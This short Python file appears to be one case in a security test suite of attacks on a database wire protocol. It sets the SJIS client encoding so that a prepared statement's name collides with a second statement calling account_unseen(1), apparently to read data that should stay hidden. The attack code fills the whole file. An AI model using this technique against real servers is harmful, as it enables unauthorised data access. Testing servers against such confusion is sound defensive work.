"""Gives a statement the name of a harmless one in other bytes that are the same letters."""

from attacks.frames import SYNC, ask, bind, close, execute, parse, query
from attacks.talking import Server

WANTS = "read"


def attack(server: Server) -> bytes:
    with server.login() as client:
        one, other = b"\xfa\x40", b"\xee\xef"
        ask(client, query(b"SET client_encoding = 'SJIS'"))
        ask(client, parse(b"SELECT name FROM customer", one), SYNC)
        ask(client, close(b"S", other), parse(b"SELECT account_unseen(1)", other), SYNC)
        return ask(client, bind(one), execute(), SYNC)
